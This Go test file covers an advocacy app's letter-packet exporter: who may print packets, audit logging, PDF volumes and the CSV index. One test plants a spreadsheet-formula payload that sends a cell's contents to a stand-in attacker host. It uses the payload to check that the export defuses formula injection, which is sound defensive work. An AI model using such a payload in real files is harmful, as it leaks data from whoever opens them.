package packets_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/advocate-org/advocate/app"
	"github.com/advocate-org/advocate/app/letter/pdf"
	"github.com/advocate-org/advocate/app/packets"
	"github.com/advocate-org/advocate/app/store"
	"github.com/advocate-org/advocate/app/store/views"
)

type fixture struct {
	db   *store.DB
	camp *app.Campaign
	seq  int
}

func newFixture(tb testing.TB) *fixture {
	tb.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, store.Options{DSN: filepath.Join(tb.TempDir(), "advocate.db")})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { db.Close() })
	if _, err := db.Migrate(ctx); err != nil {
		tb.Fatal(err)
	}
	c := &app.Campaign{Slug: "free-guan-heng", Title: "Free Guan Heng", Status: app.CampaignOpen,
		Ask: "Release Guan Heng on bond.", Delivery: app.DeliverySettings{OrgName: "Friends of Guan Heng"}}
	if err := db.Campaigns.CreateCampaign(ctx, c); err != nil {
		tb.Fatal(err)
	}
	return &fixture{db: db, camp: c}
}

var (
	tonko = app.Target{Key: "leg:T000469", Kind: app.TargetRepresentative, Name: "Paul Tonko", LastName: "Tonko",
		Title: "Representative", Honorific: "The Honorable", Greeting: "Dear Representative Tonko:", Chamber: app.House,
		State: "NY", District: intp(20), AddressLines: []string{"2269 Rayburn House Office Building", "Washington, DC 20515"}}
	schumer = app.Target{Key: "leg:S000148", Kind: app.TargetSenator, Name: "Charles E. Schumer", LastName: "Schumer",
		Title: "Senator", Honorific: "The Honorable", Greeting: "Dear Senator Schumer:", Chamber: app.Senate, State: "NY",
		AddressLines: []string{"322 Hart Senate Office Building", "Washington, DC 20510"}}
	dhs = app.Target{Key: "exec:DHS_SECRETARY", Kind: app.TargetExecutive, Name: "Markwayne Mullin", LastName: "Mullin",
		Title: "Secretary of Homeland Security", Honorific: "The Honorable", Greeting: "Dear Secretary Mullin:",
		AddressLines: []string{"Washington, DC 20528"}}
)

func intp(n int) *int { return &n }

// add stores one supporter's submission with a letter to each target.
func (f *fixture) add(tb testing.TB, at time.Time, confirmed bool, targets ...app.Target) {
	tb.Helper()
	f.seq++
	s := &app.Submission{
		CampaignID: f.camp.ID,
		Supporter: app.Supporter{FirstName: "Writer", LastName: fmt.Sprint(f.seq), Email: fmt.Sprintf("w%d@example.org", f.seq),
			Address1: "12 State St", City: "Albany", State: "NY", Zip: "12202"},
		Token: fmt.Sprintf("t%025d", f.seq), DedupKey: fmt.Sprint(f.seq), CreatedAt: at,
	}
	if !confirmed {
		s.ConfirmToken = fmt.Sprintf("c%025d", f.seq)
	}
	for _, t := range targets {
		s.Letters = append(s.Letters, app.Letter{CampaignID: f.camp.ID, Recipient: t, Subject: "Free Guan Heng",
			Body: t.Greeting + "\n\nPlease help Guan Heng.\n\nSincerely,\n\nWriter " + fmt.Sprint(f.seq), CreatedAt: at})
	}
	if _, err := f.db.Submissions.CreateSubmission(context.Background(), s); err != nil {
		tb.Fatal(err)
	}
}

var maker = func() func(testing.TB) *pdf.Maker {
	var m *pdf.Maker
	return func(tb testing.TB) *pdf.Maker {
		if m == nil {
			var err error
			if m, err = pdf.New(pdf.Options{}); err != nil {
				tb.Fatal(err)
			}
		}
		return m
	}
}()

var pageRE = regexp.MustCompile(`/Type /Page\b[^s]`)

// supporterData acts as a signed-in user with the supporter-data role.
var supporterData = app.WithActor(context.Background(), app.Actor{UserID: 7, Email: "data@example.org",
	Roles: []app.Role{app.RoleSupporterData}, Via: "session"})

// recorder keeps audit events in memory.
type recorder struct {
	events []string
	fail   error
}

func (r *recorder) Record(ctx context.Context, action, subject, detail string) error {
	if r.fail != nil {
		return r.fail
	}
	a, _ := app.ActorFrom(ctx)
	r.events = append(r.events, a.Label()+" "+action+" "+subject+" "+detail)
	return nil
}

// TestWhoMayPrintPackets: a packet is every letter in full, so only the
// supporter-data role and the command line print them, and each run is in
// the audit log before anything is written.
func TestWhoMayPrintPackets(t *testing.T) {
	f := newFixture(t)
	f.add(t, time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC), true, tonko, dhs)
	rows := []struct {
		name string
		ctx  context.Context
		want app.ErrorCode // "" allowed
	}{
		{"anonymous", context.Background(), app.EUNAUTHORIZED},
		{"staff", app.WithActor(context.Background(), app.Actor{UserID: 1, Email: "s@example.org", Roles: []app.Role{app.RoleStaff}, Via: "session"}), app.EFORBIDDEN},
		{"admin and organizer", app.WithActor(context.Background(), app.Actor{UserID: 2, Email: "a@example.org",
			Roles: []app.Role{app.RoleAdmin, app.RoleOrganizer, app.RoleStaff}, Via: "token"}), app.EFORBIDDEN},
		{"a background job", app.WithActor(context.Background(), app.Actor{Via: "system"}), app.EFORBIDDEN},
		{"supporter-data", supporterData, ""},
		{"command line", app.WithActor(context.Background(), app.Actor{Via: "cli"}), ""},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			rec := &recorder{}
			dir := filepath.Join(t.TempDir(), "out")
			w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t), Audit: rec, Operator: "alice@host"})
			res, err := w.Write(r.ctx, "free-guan-heng", dir)
			if r.want != "" {
				if app.ErrorCodeOf(err) != r.want || res != nil {
					t.Fatalf("err = %v, want %s", err, r.want)
				}
				if _, err := os.Stat(dir); !os.IsNotExist(err) || len(rec.events) != 0 {
					t.Fatalf("refused but wrote %v / recorded %v", err, rec.events)
				}
				return
			}
			if err != nil || res.Letters != 2 {
				t.Fatalf("%v %+v", err, res)
			}
			if len(rec.events) != 1 || !strings.Contains(rec.events[0], `packets.write campaign:free-guan-heng {"letters":2,"offices":2,"operator":"alice@host","personal_data":true}`) {
				t.Fatalf("audit %v", rec.events)
			}
		})
	}
	// No record, no packets.
	dir := filepath.Join(t.TempDir(), "out")
	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t), Audit: &recorder{fail: errors.New("disk full")}})
	if _, err := w.Write(supporterData, "free-guan-heng", dir); err == nil {
		t.Fatal("packets written without an audit record")
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Fatalf("wrote %v", err)
	}
}

// TestIndexDefusesFormulas: office names come from rosters organizers
// edit by hand, so index.csv neutralises spreadsheet formulas like every
// other export.
func TestIndexDefusesFormulas(t *testing.T) {
	f := newFixture(t)
	evil := dhs
	evil.Key, evil.Name, evil.LastName, evil.Title = "exec:EVIL", `=HYPERLINK("http://evil.example/?"&A1,"open")`, "Evil", "@SUM(1+1)"
	f.add(t, time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC), true, evil)
	dir := t.TempDir()
	if _, err := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t)}).Write(supporterData, "free-guan-heng", dir); err != nil {
		t.Fatal(err)
	}
	rows, err := readCSV(filepath.Join(dir, "index.csv"))
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v %v", rows, err)
	}
	if office := rows[1][1]; office != `'=HYPERLINK("http://evil.example/?"&A1,"open"), @SUM(1+1)` {
		t.Errorf("office cell %q", office)
	}
}

func TestWritePackets(t *testing.T) {
	f := newFixture(t)
	day := time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC)
	for i := 0; i < 5; i++ {
		f.add(t, day.Add(time.Duration(i)*24*time.Hour), true, tonko, schumer)
	}
	f.add(t, day, true, dhs)
	f.add(t, day, false, tonko, dhs) // unconfirmed: not in any packet
	dir := t.TempDir()
	var progress []packets.Progress
	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t), VolumeSize: 2, PageSize: 3, Location: time.UTC,
		Clock:    func() time.Time { return day.Add(30 * 24 * time.Hour) },
		Progress: func(p packets.Progress) { progress = append(progress, p) }})
	res, err := w.Write(supporterData, "free-guan-heng", dir)
	if err != nil {
		t.Fatal(err)
	}
	if res.Offices != 3 || res.Letters != 11 || len(res.Files) != 7 || len(res.Skipped) != 0 {
		t.Fatalf("offices %d letters %d files %d skipped %v", res.Offices, res.Letters, len(res.Files), res.Skipped)
	}
	want := map[string]int{ // file -> letters
		"free-guan-heng-Mullin-exec-DHS-SECRETARY.pdf":                1,
		"free-guan-heng-NY-senate-Schumer-leg-S000148-vol-1-of-3.pdf": 2,
		"free-guan-heng-NY-senate-Schumer-leg-S000148-vol-2-of-3.pdf": 2,
		"free-guan-heng-NY-senate-Schumer-leg-S000148-vol-3-of-3.pdf": 1,
		"free-guan-heng-NY20-Tonko-leg-T000469-vol-1-of-3.pdf":        2,
		"free-guan-heng-NY20-Tonko-leg-T000469-vol-2-of-3.pdf":        2,
		"free-guan-heng-NY20-Tonko-leg-T000469-vol-3-of-3.pdf":        1,
	}
	for _, file := range res.Files {
		name := filepath.Base(file.Path)
		n, ok := want[name]
		if !ok || n != file.Letters {
			t.Errorf("file %s with %d letters", name, file.Letters)
			continue
		}
		b, err := os.ReadFile(file.Path)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(b, []byte("%PDF-")) {
			t.Errorf("%s is not a PDF", name)
		}
		// A cover page and one page per (short) letter.
		if pages := len(pageRE.FindAll(b, -1)); pages != n+1 {
			t.Errorf("%s has %d pages, want %d", name, pages, n+1)
		}
	}
	if last := progress[len(progress)-1]; len(progress) != 7 || last.Done != 3 || last.Letters != 11 || last.Total != 11 {
		t.Errorf("progress %+v", progress)
	}
	rows, err := readCSV(filepath.Join(dir, "index.csv"))
	if err != nil || len(rows) != 8 || rows[1][1] != "Markwayne Mullin, Secretary of Homeland Security" {
		t.Errorf("index %v %v", rows, err)
	}
	if matches, _ := filepath.Glob(filepath.Join(dir, ".packet-*")); len(matches) != 0 {
		t.Errorf("temporary files left: %v", matches)
	}
}

func readCSV(path string) ([][]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return csv.NewReader(f).ReadAll()
}

func TestUnknownCampaign(t *testing.T) {
	f := newFixture(t)
	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(t)})
	if _, err := w.Write(supporterData, "nope", t.TempDir()); app.ErrorCodeOf(err) != app.ENOTFOUND {
		t.Errorf("err = %v", err)
	}
}

// BenchmarkPackets prints one office's packet of b.N letters (volumes of
// 500): memory per letter stays flat because letters are streamed.
func BenchmarkPackets(b *testing.B) {
	f := newFixture(b)
	day := time.Date(2026, 6, 1, 15, 0, 0, 0, time.UTC)
	for i := 0; i < b.N; i++ {
		f.add(b, day, true, tonko)
	}
	w := packets.New(packets.Options{Store: views.Office(f.db), PDF: maker(b), Location: time.UTC})
	dir := b.TempDir()
	b.ReportAllocs()
	b.ResetTimer()
	res, err := w.Write(supporterData, "free-guan-heng", dir)
	if err != nil || res.Letters != b.N {
		b.Fatal(res, err)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "letters/s")
}
